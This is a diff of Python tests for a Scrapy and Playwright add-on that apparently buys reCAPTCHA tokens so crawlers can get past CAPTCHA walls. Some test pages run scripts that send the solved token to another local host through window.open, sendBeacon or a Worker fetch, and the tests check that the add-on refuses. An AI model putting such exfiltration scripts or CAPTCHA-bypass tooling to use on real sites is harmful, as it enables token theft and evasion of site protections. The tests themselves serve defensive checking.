@@ -1,4 +1,7 @@
-"""Odd pages, and spiders that do odd things: each crawl ends as over plain HTTP, or as without the add-on."""
+"""Odd pages, and spiders that do odd things: each crawl ends as over plain HTTP, or as without the add-on.
+
+Most pages are asked for in one crawl, each at a site of its own: a browser takes longer to start than to show a page.
+"""
 
 from __future__ import annotations
 
@@ -9,9 +12,8 @@ from aiohttp import web
 from scrapy_playwright.page import PageMethod
 
 from scrapy_omocaptcha.testing import WalledSite
-from tests.browser.crawling import BrowserSpider, WithMethods, WithPage, methods
+from tests.browser.crawling import BrowserSpider, Case, CasesSpider, WithPage, methods
 from tests.helpers import sites
-from tests.helpers.nightly import nightly
 
 FIELD = "g-recaptcha-response"
 GOOGLE = "<script src=https://www.google.com/recaptcha/api.js></script>"
@@ -27,6 +29,10 @@ function send(token) {{
 
 class Site(sites.Site):
     """Site whose answers may be awaited."""
+
+    def __init__(self, answer, *hosts):
+        super().__init__(answer)
+        self.hosts = hosts or self.hosts
 
     async def _handle(self, request):
         answer = await super()._handle(request)
@@ -58,121 +64,198 @@ def walled_by(show, verify):
     return answer
 
 
+def at(answer, *more):
+    """Return what makes a site that answers with ``answer(request, form)``, at further hosts too."""
+
+    def make(service, hosts):
+        return Site(answer, *hosts, *more)
+
+    return make
+
+
 # What scripts do in a challenge
 
 
-@pytest.mark.parametrize(
-    "change",
-    [
-        nightly("history.pushState({}, '', '?verifying')"),
-        nightly("location.hash = 'verifying'"),
-        "document.body.innerHTML = '<p>Verifying'",
-    ],
-)
-def test_what_a_page_shows_before_its_token_is_answered_is_not_the_answer(browse, service, change):
-    looks = asyncio.Event()
+def changing(change):
+    """Return a site whose page changes before its token is answered."""
 
     async def verify():
         # Long enough for two looks at the page.
-        with pytest.raises(asyncio.TimeoutError):
-            await asyncio.wait_for(looks.wait(), 0.5)
+        await asyncio.sleep(0.5)
         return clear(web.Response(text="ok"))
 
-    def show():
-        return scripted(f"{change}; send(token).then(() => location = '/page');")
-
-    with Site(walled_by(show, verify)) as site:
-        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
-    assert [page.css(".item::text").get() for page in crawled.pages] == ["Lamp"]
-    assert len(service.jobs) == crawled.count("tokens/accepted") == 1
+    return at(walled_by(lambda: scripted(f"{change}; send(token).then(() => location = '/page/1');"), verify))
 
 
-@pytest.mark.parametrize(
-    "script",
-    [
-        nightly("window.open(address)"),
-        nightly("navigator.sendBeacon(address)"),
-        "new Worker(URL.createObjectURL(new Blob([worker])))",
-    ],
-)
-def test_no_other_site_gets_the_token_by_whatever_way_it_is_sent(browse, service, script):
-    stolen = []
+CHANGES = {
+    change: Case(make=changing(change))
+    for change in (
+        "history.pushState({}, '', '?verifying')",
+        "location.hash = 'verifying'",
+        "document.body.innerHTML = '<p>Verifying'",
+    )
+}
+ELSEWHERE = "127.0.0.222"
+
+
+def stealing(script):
+    """Return a site whose page sends its token to another one."""
 
     def answer(request, form):
         if request.path == "/steal":
-            stolen.append(request.query_string)
             return sites.page("Many thanks")
-        address = f"var address = 'http://127.0.0.222:{site.port}/steal?' + token"
+        address = f"var address = 'http://{ELSEWHERE}:{request.url.port}/steal?' + token"
         return scripted(f"{address}, worker = `fetch('${{address}}')`; {script};")
 
-    site = Site(answer)
-    site.hosts = (*site.hosts, "127.0.0.222")
-    with site:
-        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
-    assert [error.reason for error in crawled.failures] == ["foreign_form"]
-    assert len(service.jobs) == 1
-    assert stolen == []
+    return at(answer, ELSEWHERE)
 
 
-# How forms are sent
-
-
+THEFTS = {
+    script: Case(make=stealing(script))
+    for script in (
+        "window.open(address)",
+        "navigator.sendBeacon(address)",
+        "new Worker(URL.createObjectURL(new Blob([worker])))",
+    )
+}
 FORM = "<form method=post action=/verify>{}<button>Go on</button></form>"
+FORMS = {
+    name: Case(make=at(walled_by(lambda body=body: challenge(body), lambda: sites.won("/page/1"))))
+    for name, body in {
+        "that a visitor would have to fill in": FORM.format(f"<input type=checkbox name=human required>{WIDGET}"),
+        "beside another": f"<form action=/login><input name=user>{WIDGET}<button>Log in</button></form>"
+        + FORM.format(WIDGET),
+    }.items()
+}
 
 
-@pytest.mark.parametrize(
-    "body",
-    [
-        FORM.format(f"<input type=checkbox name=human required>{WIDGET}"),
-        f"<form action=/login><input name=user>{WIDGET}<button>Log in</button></form>" + FORM.format(WIDGET),
-    ],
-    ids=["that a visitor would have to fill in", "beside another"],
-)
-def test_the_form_of_a_wall_is_sent_as_it_is(browse, service, body):
-    with Site(walled_by(lambda: challenge(body), lambda: sites.won("/page"))) as site:
-        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
-    assert len(crawled.pages) == len(service.jobs) == 1
+def failing(fault):
+    """Return a site that answers its first token by an error."""
+
+    def make(service, hosts):
+        site = WalledSite(service, hosts=hosts)
+        site.fault("/verify", fault)
+        return site
+
+    return make
 
 
-@pytest.mark.parametrize("fault", ["server_error", nightly("too_many")])
-def test_a_token_that_was_answered_by_an_error_is_handed_in_once_more(browse, service, walled, fault):
-    site = walled()
-    site.fault("/verify", fault)
-    crawled = browse(BrowserSpider, urls=[f"{site.url}/page/1"])
-    assert len(crawled.pages) == len(service.jobs) == site.accepted == 1
-    assert crawled.count("tokens/accepted") == 1
+FAULTS = {fault: Case(make=failing(fault)) for fault in ("server_error", "too_many")}
 
 
 def in_address(request, form):
     if request.query.get(FIELD):
         return clear(sites.page(PAGE))
-    return (
-        sites.page(PAGE) if sites.cleared(request) else challenge(f"<form action=/page>{WIDGET}<button>Go on</button>")
-    )
+    if sites.cleared(request):
+        return sites.page(PAGE)
+    return challenge(f"<form action=/page/1>{WIDGET}<button>Go on</button>")
 
 
-@pytest.mark.nightly
-def test_page_methods_are_called_in_a_page_whose_address_has_the_token(browse, service):
-    with Site(in_address) as site:
-        crawled = browse(WithMethods, urls=[f"{site.origin}/page"])
-    assert [page.meta["playwright_page_methods"][1].result for page in crawled.pages] == ["the page"]
-    assert [path.partition("?")[0] for _, path, _, _ in site.requests].count("/page") == 3
-    assert len(service.jobs) == 1
+IN_ADDRESS = Case(make=at(in_address), meta={"playwright_page_methods": methods()})
+CLICKED = Case(make=at(in_address), meta=WithPage.meta)
 
 
-def test_a_live_page_has_no_token_in_its_address_nor_in_the_referer_of_what_follows(browse, service):
-    class Clicks(WithPage):
-        async def page(self, response, asked=None):
-            page = response.meta["playwright_page"]
+def opaque(*, breaks=False):
+    """Return a site that gets its token in disguise, whose page then may break the second time."""
+    shown = []
+
+    def answer(request, form):
+        if request.path == "/opaque":
+            return clear(web.Response(text="ok"))
+        if not sites.cleared(request):
+            return scripted('fetch("/opaque?" + btoa(token)).then(() => location.reload())')
+        if breaks and shown:
+            request.transport.abort()
+        shown.append(request)
+        return sites.page(PAGE)
+
+    return at(answer)
+
+
+OPAQUE = Case(make=opaque())
+BREAKS = Case(make=opaque(breaks=True), meta={"dont_retry": True})
+CASES = [
+    *(case for cases in (CHANGES, THEFTS, FORMS, FAULTS) for case in cases.values()),
+    *(IN_ADDRESS, CLICKED, OPAQUE, BREAKS),
+]
+
+
+class Clicks(CasesSpider):
+    """Clicks the link of each page that is open."""
+
+    addresses = ()
+
+    async def page(self, response, asked=None):
+        page = response.meta.get("playwright_page")
+        if page is not None:
             self.addresses = [page.url]
             async with page.expect_navigation():
                 await page.click("a")
-            await super().page(response)
+        await super().page(response, asked)
 
-    with Site(in_address) as site:
-        crawled = browse(Clicks, urls=[f"{site.origin}/page"])
-    assert crawled.spider.addresses == [f"{site.origin}/page"]
-    assert [headers["Referer"] for _, path, _, headers in site.requests if path == "/next"] == [f"{site.origin}/page"]
+
+@pytest.fixture(scope="module")
+def crawled(together):
+    """Ask for the page of each case."""
+    crawled = together(Clicks, CASES, page_fails=True)
+    assert [bug for case in CASES for bug in case.bugs if case is not BREAKS] == []
+    return crawled
+
+
+ACCEPTED = [("accepted", "")]
+
+
+@pytest.mark.parametrize("change", CHANGES)
+def test_what_a_page_shows_before_its_token_is_answered_is_not_the_answer(crawled, change):
+    assert [page.css(".item::text").get() for page in CHANGES[change].pages] == ["Lamp"]
+    assert (CHANGES[change].bought, CHANGES[change].jobs) == (1, ACCEPTED)
+
+
+@pytest.mark.parametrize("script", THEFTS)
+def test_no_other_site_gets_the_token_by_whatever_way_it_is_sent(crawled, script):
+    theft = THEFTS[script]
+    assert (theft.reasons, theft.bought) == (["foreign_form"], 1)
+    assert [path for _, path, _, _ in theft.site.requests if path.startswith("/steal")] == []
+
+
+# How forms are sent
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_the_form_of_a_wall_is_sent_as_it_is(crawled, form):
+    assert len(FORMS[form].pages) == FORMS[form].bought == 1
+
+
+@pytest.mark.parametrize("fault", FAULTS)
+def test_a_token_that_was_answered_by_an_error_is_handed_in_once_more(crawled, fault):
+    failed = FAULTS[fault]
+    assert len(failed.pages) == failed.bought == failed.site.accepted == 1
+    assert failed.jobs == ACCEPTED
+
+
+def test_page_methods_are_called_in_a_page_whose_address_has_the_token(crawled):
+    assert [page.meta["playwright_page_methods"][1].result for page in IN_ADDRESS.pages] == ["the page"]
+    assert [path.partition("?")[0] for _, path, _, _ in IN_ADDRESS.site.requests].count("/page/1") == 3
+    assert IN_ADDRESS.bought == 1
+
+
+def test_a_live_page_has_no_token_in_its_address_nor_in_the_referer_of_what_follows(crawled):
+    address = f"{CLICKED.site.origin}/page/1"
+    assert crawled.spider.addresses == [address]
+    assert [headers["Referer"] for _, path, _, headers in CLICKED.site.requests if path == "/next"] == [address]
+
+
+def test_a_token_that_no_request_was_seen_to_carry_is_not_called_accepted(crawled):
+    (page,) = OPAQUE.pages
+    assert (page.status, OPAQUE.bought, OPAQUE.jobs) == (200, 1, [("unknown", "not_seen")])
+    assert "omocaptcha" not in page.flags
+    said = [line for line in crawled.said() if OPAQUE.site.hosts[0] in line]
+    assert any("accepted a token is not known (not_seen)" in line for line in said)
+
+
+def test_a_token_that_no_request_was_seen_to_carry_is_accounted_for_where_the_page_then_fails(crawled):
+    assert (BREAKS.pages, len(BREAKS.failures), BREAKS.bought) == ([], 1, 1)
+    assert [outcome for outcome, _ in BREAKS.jobs] == ["unknown"]
 
 
 # What the spider does
@@ -287,39 +370,3 @@ def test_a_wall_opens_in_pages_that_a_middleware_nearer_to_the_site_has_rendered
     nearer = {Renders: 600, "scrapy_omocaptcha.testing.browser.OfflineGoogle": 1000}
     crawled = browse(Plain, {"DOWNLOADER_MIDDLEWARES": nearer}, urls=[f"{walled().url}/page/1"])
     assert len(crawled.pages) == len(crawled.spider.live) == len(service.jobs) == 1
-
-
-def test_a_token_that_no_request_was_seen_to_carry_is_not_called_accepted(browse, service):
-    def answer(request, form):
-        if request.path == "/opaque":
-            return clear(web.Response(text="ok"))
-        send = 'fetch("/opaque?" + btoa(token)).then(() => location.reload())'
-        return sites.page(PAGE) if sites.cleared(request) else scripted(send)
-
-    with Site(answer) as site:
-        crawled = browse(BrowserSpider, urls=[f"{site.origin}/page"])
-    assert [page.status for page in crawled.pages] == [200]
-    assert len(service.jobs) == 1
-    assert (crawled.count("tokens/unknown"), crawled.count("tokens/accepted")) == (1, 0)
-    assert "omocaptcha" not in crawled.pages[0].flags
-    assert any("accepted a token is not known (not_seen)" in line for line in crawled.said())
-
-
-def test_a_token_that_no_request_was_seen_to_carry_is_accounted_for_where_the_page_then_fails(browse, service):
-    shown = []
-
-    def answer(request, form):
-        if request.path == "/opaque":
-            return clear(web.Response(text="ok"))
-        if not sites.cleared(request):
-            return scripted('fetch("/opaque?" + btoa(token)).then(() => location.reload())')
-        if shown:
-            request.transport.abort()
-        shown.append(request)
-        return sites.page(PAGE)
-
-    with Site(answer) as site:
-        crawled = browse(BrowserSpider, {"RETRY_ENABLED": False}, urls=[f"{site.origin}/page"], page_fails=True)
-    assert crawled.pages == []
-    assert len(crawled.failures) == len(service.jobs) == 1
-    assert crawled.count("tokens/unknown") == 1
